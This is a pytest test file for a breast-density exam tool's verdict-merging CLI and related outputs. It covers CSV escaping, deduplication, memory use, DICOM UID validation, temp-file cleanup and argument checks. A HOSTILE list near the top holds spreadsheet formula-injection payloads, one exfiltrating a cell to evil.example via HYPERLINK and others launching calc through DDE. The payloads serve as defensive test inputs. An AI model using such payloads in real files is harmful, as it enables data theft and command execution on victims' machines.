"""Outputs others open, fed hostile input: dens-verdicts' merged CSV holds cells (formulas guarded, newlines
escaped), an exam without a call A-D is a clear refusal, an exam reviewed twice counts once, and a huge export
is streamed; an SR is never written without a valid StudyInstanceUID; a temporary a killed write left behind
is removed by the next write of its file; --shard takes ASCII digits and a sane N only."""

from __future__ import annotations

import csv
import logging
import os
import subprocess
import sys
import time

import pandas as pd
import pytest
from click.testing import CliRunner

from dens import exams, sr
from dens.files import atomic_write
from dens.infer.cli import main as infer_main
from dens.verdicts.cli import main as verdicts_main
from test_sr import MODEL, make_exam
from test_verdicts import exam_table, verdict

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def merge_cli(tmp_path, table: pd.DataFrame, rows: list[dict]) -> tuple[object, object]:
    exam_csv, verdicts_csv, out = tmp_path / "preds.exam.csv", tmp_path / "verdicts.csv", tmp_path / "merged.csv"
    table.to_csv(exam_csv, index=False)
    pd.DataFrame(rows).to_csv(verdicts_csv, index=False)
    return CliRunner().invoke(verdicts_main, [str(exam_csv), str(verdicts_csv), "--out", str(out)]), out


def test_free_text_from_a_verdicts_csv_is_written_as_cells(tmp_path):
    table = exam_table()
    table.loc[5, "patient_id"] = "'=1+1"  # a cell dens-infer guarded: kept as written, never guarded twice
    rows = [
        verdict(0, "agree", "A", reviewer=HOSTILE[0], reviewed_at=HOSTILE[1]),
        verdict(1, "agree", "B", reviewer="Dr\nEvil\r\x1b[31mred", reviewed_at=HOSTILE[2]),
        verdict(2, "disagree", "D", reviewer="-2+3"),
    ]
    result, out = merge_cli(tmp_path, table, rows)
    assert result.exit_code == 0, result.output
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 1 + len(table)  # one line per row: no raw newline in any cell
    merged = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert merged["reviewer"].tolist()[:3] == ["'" + HOSTILE[0], "Dr\\nEvil\\r\\x1b[31mred", "'-2+3"]
    assert merged["reviewed_at"].tolist()[:2] == ["'" + HOSTILE[1], "'" + HOSTILE[2]]
    assert merged["patient_id"].tolist()[5] == "'=1+1"
    for cell in merged.to_numpy().ravel():
        assert not str(cell).startswith(("=", "+", "-", "@")), cell
    assert "\x1b" not in result.output and "Dr\\nEvil" in result.output  # the terminal gets escapes too


def test_an_exam_without_a_call_a_to_d_is_refused_with_a_message_not_a_traceback(tmp_path):
    table = exam_table()
    table.loc[2, "density"] = "X"
    rows = [verdict(0, "agree", "A"), verdict(2, "disagree", "B", model_density="X")]
    result, out = merge_cli(tmp_path, table, rows)
    assert result.exit_code == 1, result.output
    assert "line 3 ('study_uid:1.2.2'): the exam CSV's call 'X' is not one of A-D" in result.output
    assert "Traceback" not in result.output and not out.exists()


def test_an_exam_reviewed_twice_counts_once_with_its_latest_verdict(tmp_path):
    late, early = "2026-12-02T09:00:00.000Z", "2026-12-01T09:00:00.000Z"
    rows = [
        verdict(0, "disagree", "B", reviewed_at=late),  # the latest, though first in the file
        verdict(0, "agree", "A", reviewed_at=early),
        verdict(1, "agree", "B"),
        verdict(1, "agree", "B"),  # the same verdict exported twice
        verdict(2, "agree", "C", reviewed_at="not a time"),
        verdict(2, "disagree", "D", reviewed_at="not a time"),  # no order by time: the later row
    ]
    table = pd.concat([exam_table(), exam_table().iloc[[3]]], ignore_index=True)  # exam 3 listed twice
    rows.append(verdict(3, "agree", "D"))
    result, out = merge_cli(tmp_path, table, rows)
    assert result.exit_code == 0, result.output
    assert "4 of 6 exams reviewed" in result.output
    assert "3 repeated verdicts dropped" in result.output
    assert "1 repeated exam row of the exam CSV dropped" in result.output
    assert "accepted (agree): 2 of 4 (50.0%)" in result.output
    merged = pd.read_csv(out, dtype=str, keep_default_na=False).set_index(exams.EXAM)
    assert len(merged) == 6 and merged.index.is_unique
    assert merged["verdict"].tolist()[:4] == ["disagree", "agree", "disagree", "agree"]
    assert merged["reviewer_density"].tolist()[:4] == ["B", "B", "D", "D"]


def peak_rss_mib(tmp_path, exam_csv, verdicts_csv) -> float:
    code = (
        "import resource, sys\n"
        "from dens.verdicts.cli import main\n"
        "try:\n"
        "    main([sys.argv[1], sys.argv[2], '--out', sys.argv[3]])\n"
        "except SystemExit as e:\n"
        "    assert not e.code, e.code\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(exam_csv), str(verdicts_csv), str(tmp_path / "merged.csv")],
        capture_output=True,
        text=True,
        check=True,
    )
    return int(done.stdout.split()[-1]) / 1024


def test_a_large_verdicts_export_is_streamed_not_held(tmp_path):
    """A 36 MB export (each exam reviewed many times over) costs little more memory than a small one: held
    whole as strings it took about 13 times its size."""
    exam_csv = tmp_path / "preds.exam.csv"
    exam_table().to_csv(exam_csv, index=False)
    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    header = list(verdict(0, "agree", "A"))
    rows = [list(verdict(k, "agree", exam_table()["density"][k]).values()) for k in range(6)]
    for path, repeats in ((small, 1), (large, 70_000)):
        with open(path, "w", newline="") as f:
            writer = csv.writer(f)
            writer.writerow(header)
            for _ in range(repeats):
                writer.writerows(rows)
    assert large.stat().st_size > 30e6
    grown = peak_rss_mib(tmp_path, exam_csv, large) - peak_rss_mib(tmp_path, exam_csv, small)
    assert grown < 60, f"peak RSS grew by {grown:.0f} MiB for a {large.stat().st_size / 2**20:.0f} MiB export"


def test_a_cell_beyond_the_csv_field_limit_is_a_clear_refusal(tmp_path):
    rows = [verdict(0, "agree", "A", reviewer="x" * 200_000)]
    result, out = merge_cli(tmp_path, exam_table(), rows)
    assert result.exit_code == 1 and "is not a readable CSV (line 2)" in result.output, result.output
    assert "Traceback" not in result.output and not out.exists()


# --- the SR's StudyInstanceUID ---------------------------------------------------------------------------


@pytest.mark.parametrize("uid", ["1.2.abc", "1.02.3", "1." + "2" * 70])
def test_an_sr_is_never_written_without_a_valid_study_uid(tmp_path, caplog, uid):
    bad = make_exam(tmp_path / "bad", StudyInstanceUID=uid)
    good = make_exam(tmp_path / "good")
    headers = dict(zip(bad["path"], sr.read_headers(list(bad["path"])), strict=True))
    with pytest.raises(sr.InvalidStudyUID, match="not a valid UID"):
        sr.exam_report(bad, headers, MODEL)
    with caplog.at_level(logging.WARNING, logger="dens.sr"):
        written = sr.write_reports(pd.concat([bad, good], ignore_index=True), tmp_path / "sr", MODEL)
    assert [p.name for p in written] == [f"{good['study_uid'][0]}.sr.dcm"]  # the other exam still gets its SR
    assert f"no density SR for study {uid!r}" in caplog.text


# --- temporaries of a killed write -------------------------------------------------------------------------


def dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_a_temporary_left_by_a_killed_write_is_removed_by_the_next_write(tmp_path):
    """dens-verdicts --out writes through atomic_write: a killed run's temporary of the same file goes at the
    next run; a live writer's, a recent one and another file's stay."""
    old = time.time() - 3600  # beyond the grace a writer on another machine gets
    stale = tmp_path / f".merged.csv.{dead_pid()}.140000.tmp"
    recent = tmp_path / f".merged.csv.{dead_pid()}.140001.tmp"
    live = tmp_path / f".merged.csv.{os.getppid()}.140002.tmp"
    other = tmp_path / f".preds.exam.csv.{dead_pid()}.140003.tmp"
    for path in (stale, recent, live, other):
        path.write_text("half a file")
    for path in (stale, live, other):
        os.utime(path, (old, old))
    result, out = merge_cli(tmp_path, exam_table(), [verdict(0, "agree", "A")])
    assert result.exit_code == 0, result.output
    assert out.is_file() and not stale.exists()
    assert recent.exists() and live.exists() and other.exists()
    with atomic_write(tmp_path / "preds.exam.csv", "w") as f:
        f.write("x\n")
    assert not other.exists()


# --- --shard -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("shard", ["0/99999999999999999999", "0/100001", "\uff10/\uff14", "0/4\u0663", "1/0"])
def test_a_shard_beyond_reason_or_not_in_ascii_digits_is_a_usage_error(tmp_path, shard):
    (tmp_path / "in").mkdir()
    (tmp_path / "m.onnx").write_bytes(b"")  # never read: the usage error comes first
    out = tmp_path / "preds.csv"
    result = CliRunner().invoke(
        infer_main, [str(tmp_path / "in"), "--out", str(out), "--model", str(tmp_path / "m.onnx"), "--shard", shard]
    )
    assert result.exit_code == 2, result.output
    assert "shard" in result.output and "100000" in result.output, result.output
    assert "Traceback" not in result.output and not out.exists()
